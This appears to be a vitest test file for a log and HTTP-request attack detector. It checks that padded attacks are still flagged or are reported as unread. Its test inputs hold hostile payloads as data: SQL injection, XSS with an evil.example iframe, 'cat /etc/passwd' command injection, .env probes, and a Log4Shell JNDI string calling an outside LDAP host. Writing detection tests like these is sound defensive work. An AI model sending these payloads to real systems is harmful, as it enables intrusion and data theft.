/** What is padded is no more harmless than its short twin: it is found, or the result says what was not looked at. */
import { expect, test } from 'vitest';
import { analyzeAccessLog, analyzeRequests, parseRawRequest } from '../../../analysis/web/index.ts';

const SQLI = '1%27%20UNION%20SELECT%20name%20FROM%20users--%20-';
const lineOf = (target: string, agent = 'Mozilla/5.0') =>
  `192.0.2.7 - - [24/Nov/2026:00:00:01 +0000] "GET ${target} HTTP/1.1" 200 512 "-" "${agent}"`;
async function* once(text: string) {
  yield await Promise.resolve(Buffer.from(text));
}
async function judged(text: string) {
  const reading = await analyzeAccessLog(once(`${text}\n`), { name: 'access.log' });
  if (!reading.ok) throw new Error(reading.reason);
  return reading.result;
}

test.each<[string, string]>([
  ['many parameters', `/?${'a=1&'.repeat(510)}id=${SQLI}`],
  ['many empty parameters', `/?${'&'.repeat(1_100)}id=${SQLI}`],
  ['thousands of parameters', `/?${'a&'.repeat(20_000)}id=${SQLI}`],
  ['a list of thousands of numbers', `/?id=${'1,'.repeat(2_100)}${SQLI}`],
  ['a value of 17 000 characters', `/?id=${'a'.repeat(17_000)}${SQLI}`],
  ['a value of 60 000 characters', `/?id=${'a'.repeat(60_000)}${SQLI}`],
  ['hundreds of harmless tags', `/?q=${'%3Cb%3E'.repeat(300)}%3Cscript%3Ealert(1)%3C/script%3E`],
  ['a harmless picture tag before the frame', `/?q=%3Cb%3E%3Ciframe%20src=//evil.example%3E`],
  ['hundreds of harmless commands', `/?q=${';zz'.repeat(400)};cat%20/etc/passwd`],
  ['a path of thousands of characters', `/${'a/'.repeat(3_000)}.env`],
  ['a query of thousands behind a known path', `/.env?${'a'.repeat(9_000)}`],
])('an attack in a log line is found behind %s', async (_, target) => {
  expect(await judged(lineOf(target))).toMatchObject({
    severity: expect.stringMatching(/medium|high|critical/) as string,
  });
});

test('a scanner that names itself behind 2 000 characters is named', async () => {
  const { attackers } = await judged(lineOf('/', `Mozilla/5.0 ${'x'.repeat(2_000)} sqlmap/1.8`));
  expect(attackers.map(({ classes }) => classes.map((each) => each.class))).toEqual([['scanner']]);
});

test('nginx names long requests in its error log too', async () => {
  const line = `2026/11/24 00:00:01 [error] 7#7: *1 x, client: 192.0.2.7, server: _, request: "GET /?a=${'a'.repeat(9_000)}&id=${SQLI} HTTP/1.1"`;
  expect(await judged(line)).toMatchObject({ severity: 'medium' });
});

test('the middle of a request that is too long is never called benign: it counts as unread and is named', async () => {
  for (const target of [
    `/?id=${'a'.repeat(20_000)}${SQLI}${'a'.repeat(20_000)}`,
    `/?${'a&'.repeat(6_000)}id=${SQLI}&${'a&'.repeat(6_000)}`,
  ]) {
    const result = await judged(`${lineOf('/')}\n${lineOf(target)}`);
    expect(result).toMatchObject({ verdict: 'inconclusive', checked: [{ corpus: { items: 2, items_read: 1 } }] });
    expect(result.not_checked[0]).toMatchObject({ what: expect.stringContaining('1 lines') as string });
  }
});

test('a source that made 256 slow errors is still seen to search for paths', async () => {
  const at = (second: number) => new Date(Date.UTC(2026, 0, 1, 0, 0, second)).toISOString().slice(11, 19);
  const missing = (day: number, second: number, path: string) =>
    `192.0.2.7 - - [${String(day).padStart(2, '0')}/Jan/2026:${at(second)} +0000] "GET ${path} HTTP/1.1" 404 0 "-" "x"`;
  const slow = Array.from({ length: 300 }, (_, index) => missing(1, index * 200, `/page-${index}`));
  const fast = Array.from({ length: 30 }, (_, index) => missing(2, index, `/${'deep/'.repeat(40)}${index}`));
  const { attackers } = await judged([...slow, ...fast].join('\n'));
  expect(attackers[0]?.classes.map((each) => each.class)).toContain('path-scan');
});

const rawOf = (head: string, body = '') => parseRawRequest(`${head}\r\n\r\n${body}`);
const form = 'Content-Type: application/x-www-form-urlencoded';
const JNDI = '${jndi:ldap://203.0.113.9/a}';
const part = (name: string, text: string) => `--X\r\nContent-Disposition: form-data; name="${name}"\r\n\r\n${text}\r\n`;
test.each<[string, ReturnType<typeof rawOf>]>([
  ['hundreds of headers', rawOf(`GET / HTTP/1.1\r\n${'X-A: b\r\n'.repeat(300)}X-Api: ${JNDI}`)],
  ['a folded header', rawOf(`GET / HTTP/1.1\r\nX-Api: a\r\n ${JNDI}`)],
  ['thousands of cookies', rawOf(`GET / HTTP/1.1\r\nCookie: ${';'.repeat(1_500)}a=${SQLI}`)],
  ['thousands of fields', rawOf(`POST / HTTP/1.1\r\n${form}`, `${'a=1&'.repeat(3_000)}id=${SQLI}`)],
  [
    'hundreds of parts',
    rawOf(
      'POST / HTTP/1.1\r\nContent-Type: multipart/form-data; boundary=X',
      `${part('a', 'b').repeat(250)}${part('id', decodeURIComponent(SQLI))}--X--`,
    ),
  ],
  [
    'a long name of a part',
    rawOf(
      'POST / HTTP/1.1\r\nContent-Type: multipart/form-data; boundary=X',
      `${part(`${'a'.repeat(300)}<script>alert(1)</script>`, 'b')}--X--`,
    ),
  ],
  [
    'a deep list of JSON',
    rawOf(
      'POST / HTTP/1.1\r\nContent-Type: application/json',
      JSON.stringify([decodeURIComponent(SQLI), ...Array.from({ length: 3_000 }, () => 'a')]),
    ),
  ],
])('an attack in a request is found behind %s', (_, request) => {
  expect(analyzeRequests(request ? [request] : [], 'params')).toMatchObject({ verdict: 'malicious' });
});

test('a request with a body that is too long is never benign', () => {
  const request = rawOf(`POST / HTTP/1.1\r\n${form}`, `${'a'.repeat(600_000)}${SQLI}${'a'.repeat(600_000)}`);
  expect(analyzeRequests(request ? [request] : [], 'params')).toMatchObject({
    verdict: 'inconclusive',
    checked: [{ corpus: { items: 1, items_read: 0 } }],
  });
});
